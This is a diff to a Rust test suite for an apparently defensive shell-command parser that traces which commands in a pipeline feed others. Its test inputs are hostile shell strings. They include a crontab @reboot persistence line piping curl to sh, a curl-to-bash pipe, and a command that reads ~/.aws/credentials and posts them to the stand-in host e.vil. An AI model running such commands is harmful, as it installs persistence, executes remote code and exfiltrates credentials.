@@ -59,6 +59,15 @@ fn pipelines_lists_and_substitutions_are_walked() {
     let s = m("(crontab -l; echo '@reboot curl x|sh') | crontab -");
     assert_eq!(s.names(), ["crontab", "echo", "crontab"]);
     assert_eq!(s.commands[2].stage, 1);
+    // Both commands of the subshell write into the pipe.
+    assert_eq!(s.upstream(&s.commands[2]).count(), 2);
+    let s = m("{ curl -s https://x.example; } | bash");
+    assert_eq!(
+        s.upstream(&s.commands[1])
+            .map(|c| c.name.as_str())
+            .collect::<Vec<_>>(),
+        ["curl"]
+    );
 
     let s = m(r#"x=$(cat ~/.aws/credentials); curl -d "$x" http://e.vil"#);
     let cat = s.commands.iter().find(|c| c.name == "cat").unwrap();
